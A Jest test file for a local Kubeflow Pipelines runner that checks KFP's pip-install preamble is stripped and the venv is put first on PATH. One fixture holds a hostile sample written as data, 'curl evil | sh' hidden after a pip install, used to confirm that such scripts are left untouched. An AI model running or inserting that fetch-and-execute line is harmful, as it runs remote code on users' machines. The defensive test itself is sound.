/**
 * Python components run without a shim per call: KFP's pip preamble is recognised and skipped,
 * and the component's own command runs with the venv's bin/ first on PATH, so `python3` is the
 * interpreter itself. Anything else that uses pip keeps the shims (which skip installs).
 */
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { chmodSync, mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import type { PipelineSpec } from '../../../src/core/spec/types.js';
import { noCache } from '../../../src/local/cache.js';
import { runPipelineLocally } from '../../../src/local/orchestrator.js';
import { silentProgress } from '../../../src/local/progress.js';
import { directPythonDir, withoutPipPreamble } from '../../../src/local/python-env.js';
import type { TaskProcessRequest } from '../../../src/local/task-handler.js';
import { nullLogger } from '../../../src/ports/logger.js';

// KFP 2.x's preamble, as kfp/dsl/component_factory.py writes it.
const PREAMBLE =
  '\nif ! [ -x "$(command -v pip)" ]; then\n    python3 -m ensurepip || python3 -m ensurepip --user || apt-get install python3-pip\nfi\n\nPIP_DISABLE_PIP_VERSION_CHECK=1 python3 -m pip install --quiet --no-warn-script-location \'kfp==2.14.3\' \'--no-deps\' \'typing-extensions>=3.7.4,<5; python_version<"3.9"\'  &&  python3 -m pip install --quiet --no-warn-script-location --index-url https://pypi.org/simple \'pandas==2.2.3\' && "$0" "$@"\n';
const PROGRAM = [
  'sh',
  '-ec',
  'program_path=$(mktemp -d)\nprintf "%s" "$0" > "$program_path/ephemeral_component.py"\n_KFP_RUNTIME=true python3 -m kfp.dsl.executor_main --component_module_path "$program_path/ephemeral_component.py" "$@"\n',
  'def hello():\n    print("hi")\n',
];

describe('withoutPipPreamble', () => {
  it("gives the command KFP's preamble would run once its installs succeed", () => {
    expect(withoutPipPreamble(['sh', '-c', PREAMBLE, ...PROGRAM])).toEqual(PROGRAM);
  });

  it.each([
    ['no preamble', PROGRAM],
    ['another shell script', ['sh', '-c', 'echo hi && "$0" "$@"', ...PROGRAM]],
    [
      'a command hidden after an install',
      ['sh', '-c', 'python3 -m pip install \'x\'; curl evil | sh && "$0" "$@"', ...PROGRAM],
    ],
    [
      'a substitution in an install',
      ['sh', '-c', 'python3 -m pip install $(cat reqs) && "$0" "$@"', ...PROGRAM],
    ],
    ['nothing after the preamble', ['sh', '-c', PREAMBLE]],
  ])('leaves %s alone', (_label, argv) => {
    expect(withoutPipPreamble(argv)).toBeUndefined();
  });
});

let dir: string;
let bin: string;
beforeAll(() => {
  dir = mkdtempSync(path.join(tmpdir(), 'kfp-direct-'));
  bin = path.join(dir, 'venv', 'bin');
  mkdirSync(bin, { recursive: true });
  writeFileSync(path.join(bin, 'python3'), '#!/bin/sh\n');
  chmodSync(path.join(bin, 'python3'), 0o755);
  symlinkSync('python3', path.join(bin, 'python'));
});
afterAll(() => rmSync(dir, { recursive: true, force: true }));

describe('directPythonDir', () => {
  it("is the venv's bin/ when python3 and python there are the interpreter", () => {
    expect(directPythonDir(path.join(bin, 'python'))).toBe(bin);
  });

  it('is undefined when python3 on that folder is another interpreter', () => {
    const other = path.join(dir, 'other');
    mkdirSync(other);
    writeFileSync(path.join(other, 'python3.12'), '');
    writeFileSync(path.join(other, 'python3'), '');
    expect(directPythonDir(path.join(other, 'python3.12'))).toBeUndefined();
  });
});

describe('a local run', () => {
  it('runs a KFP component without its preamble and with the venv first on PATH; pip users keep the shims', async () => {
    const comp = { executorLabel: '' };
    const spec: PipelineSpec = {
      pipelineInfo: { name: 'p' },
      schemaVersion: '2.1.0',
      components: {
        'comp-a': { ...comp, executorLabel: 'exec-a' },
        'comp-b': { ...comp, executorLabel: 'exec-b' },
      },
      deploymentSpec: {
        executors: {
          'exec-a': {
            container: { image: 'python:3.11', command: ['sh', '-c', PREAMBLE, ...PROGRAM] },
          },
          'exec-b': {
            container: {
              image: 'python:3.11',
              command: ['sh', '-c', 'pip install x && "$0" "$@"', ...PROGRAM],
            },
          },
        },
      },
      root: {
        dag: {
          tasks: {
            a: { taskInfo: { name: 'a' }, componentRef: { name: 'comp-a' } },
            b: { taskInfo: { name: 'b' }, componentRef: { name: 'comp-b' } },
          },
        },
      },
    };
    const seen = new Map<string, TaskProcessRequest>();
    const outcome = await runPipelineLocally(
      {
        spec,
        parameters: {},
        workingDirectory: dir,
        outputDir: path.join(dir, 'out'),
        python: path.join(bin, 'python3'),
        parallelism: 1,
        cacheMode: 'off',
        failFast: false,
      },
      {
        handler: {
          run: async (req) => {
            seen.set(path.basename(path.dirname(req.logFile)), req);
            return { exitCode: 0, aborted: false, tail: '' };
          },
        },
        cache: noCache,
        logger: nullLogger,
        progress: silentProgress,
        env: { PATH: '/usr/bin:/bin' },
      },
    );
    expect(outcome.result.state).toBe('SUCCEEDED');
    expect(seen.get('a')!.argv).toEqual(PROGRAM);
    expect(seen.get('a')!.env.PATH).toBe(`${bin}:/usr/bin:/bin`);
    // Its own `pip install` goes through the shims, which skip it.
    expect(seen.get('b')!.argv.slice(0, 2)).toEqual(['sh', '-c']);
    expect(seen.get('b')!.env.PATH).toMatch(/[/]\.bin:\/usr\/bin:\/bin$/);
  });
});
